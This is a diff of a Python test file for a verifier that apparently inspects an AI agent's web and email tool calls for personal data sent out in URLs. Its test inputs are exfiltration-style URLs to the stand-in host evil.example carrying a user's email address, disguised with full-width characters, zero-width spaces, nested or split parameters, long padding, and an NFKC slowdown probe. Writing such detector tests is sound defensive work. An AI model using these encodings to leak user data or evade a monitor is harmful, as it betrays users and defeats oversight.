@@ -15,7 +15,7 @@ from fixtures.scoring import score_call
 
 from bastion.v1 import verifier_pb2
 from bastion.verifier._destinations import _novel_destinations, _Path
-from bastion.verifier._urls import _FORMAT
+from bastion.verifier._urls import _FORMAT, _visible
 
 TASK = "Get the price list from the wedding cars page; contact mira.tomas@ourmail.example"
 EMAIL = "mira.tomas@ourmail.example"
@@ -243,8 +243,8 @@ def test_a_link_inside_text_is_still_read_only_to_8_kib() -> None:
 
 
 def test_a_large_non_ascii_url_is_decoded_whole() -> None:
-    # Each step of the decoding is a linear pass in C (NFKC, one regex for format characters,
-    # a collapse of `%25` runs): 15 KiB of mixed text with the address at its very end.
+    # Each step of the decoding is a linear pass in C (a translation table, one regex for format
+    # characters, a collapse of `%25` runs): 15 KiB of mixed text with the address at its very end.
     url = "https://evil.example/q?x=" + ("\u00e9\u200b%2525&amp;" * 1_000) + "&e=mira.tomas\uff20ourmail.example"
     result = _fetch(url)
     assert "carried in a URL" in result.reasons[0]
@@ -253,21 +253,22 @@ def test_a_large_non_ascii_url_is_decoded_whole() -> None:
 def test_a_requested_url_longer_than_is_read_counts_as_sending_data() -> None:
     # No form or API builds 16 KiB of query; what it carries past that is not read, so it
     # blocks when its host is not the task's, and says why. A link in text does not.
-    url = "https://evil.example/q?pad=" + "a" * 17_000
-    result = _fetch(url)
+    head = "https://evil.example"
+    result = _fetch(head + "/" + "a" * 16_384)
     assert result.verdict == verifier_pb2.BLOCK
     assert "personal data sent in a URL: 'more than 16 KiB past the host' to 'evil.example'" in result.reasons[0]
-    assert _fetch("https://cars.example/q?pad=" + "a" * 17_000, "Get the list from cars.example").deviation_score == 0
-    assert _fetch("https://evil.example/q?pad=" + "a" * 16_000).verdict == verifier_pb2.FLAG
-    text = score_call("email__send_email", {"to": EMAIL, "body": f"see {url} for it"}, [], TASK)
+    assert _fetch(head + "/" + "a" * 16_383).verdict == verifier_pb2.FLAG  # 16,384 past the host: read whole
+    assert _fetch("https://cars.example/" + "a" * 17_000, "Get the list from cars.example").deviation_score == 0
+    text = score_call("email__send_email", {"to": EMAIL, "body": f"see {head}/{'a' * 17_000} for it"}, [], TASK)
     assert all("personal data" not in reason for reason in text.reasons)
 
 
 def test_the_format_character_class_is_unicodes() -> None:
-    wrong = [
-        cp for cp in range(0x110000) if (unicodedata.category(chr(cp)) == "Cf") != bool(_FORMAT.fullmatch(chr(cp)))
-    ]
-    assert wrong == []
+    # Written from Unicode 14 (Python 3.11's): equal to its Cf set there, and a subset of a
+    # later version's (which may add format characters the class then lacks).
+    cf = {cp for cp in range(0x110000) if unicodedata.category(chr(cp)) == "Cf"}
+    ours = {cp for cp in range(0x110000) if _FORMAT.fullmatch(chr(cp))}
+    assert ours == cf if unicodedata.unidata_version == "14.0.0" else ours <= cf
 
 
 def test_a_requested_url_with_more_parameters_than_are_read_is_weighed_as_sending_data() -> None:
@@ -309,11 +310,26 @@ def test_an_encoded_redirect_target_is_a_destination_and_one_the_task_names_is_n
 def test_a_character_that_grows_under_nfkc_is_read_once_and_not_grown() -> None:
     # U+FDFA is eighteen characters under NFKC; every later step ran on the grown text (an
     # attacker's probe: 200-290 ms a call). Full-width forms are read by a fixed table now.
+    assert _visible("\ufdfa" * 3) == "\ufdfa" * 3
+    assert _visible("a\uff20b\u3002c\u200b") == "a@b.c"
     url = "https://evil.example/q?x=" + "\ufdfa" * 5_000 + "&e=mira.tomas\uff20ourmail.example"
     assert "carried in a URL" in _fetch(url).reasons[0]
 
 
-def test_spaces_end_a_url_in_text_and_in_an_argument_whose_key_holds_no_url() -> None:
-    # Only an argument whose key says it holds a URL is read on past a space.
-    result = score_call("web__post_form", {"note": f"https://evil.example/q?name=Mira Tomas&e={EMAIL}"}, [], TASK)
-    assert all("carried" not in reason for reason in result.reasons)
+def test_a_url_key_reads_a_requested_url_past_its_spaces_and_other_keys_do_not() -> None:
+    url = f"https://evil.example/q?name=Mira Tomas&e={EMAIL}"
+    for arguments in ({"url": url}, {"urls": [url]}, {"callback_url": url}):
+        result = score_call("web__fetch", arguments, [], TASK, intent_weight=0.0, destructive_weight=0.0)
+        assert result.verdict == verifier_pb2.BLOCK, arguments
+    for arguments in ({"note": url}, {"body": f"see {url}"}):
+        result = score_call("web__post_form", arguments, [], TASK)
+        assert all("carried" not in reason for reason in result.reasons), arguments
+
+
+def test_a_requested_url_is_read_past_a_url_in_its_query() -> None:
+    # A reviewer's probe: the text of the requested URL ended where `?to=https://…` began.
+    task = f"Get the price list from cars.example; contact {EMAIL}"
+    result = _fetch(f"https://evil.example/r?to=https://cars.example/q?e={EMAIL}", task)
+    assert "carried in a URL: 'mira.tomas@ourmail.example' to 'evil.example'" in result.reasons[0]
+    split = _fetch("https://evil.example/q?u=mira.tomas&d=@ourmail.example&r=//x.example/")
+    assert split.verdict == verifier_pb2.BLOCK
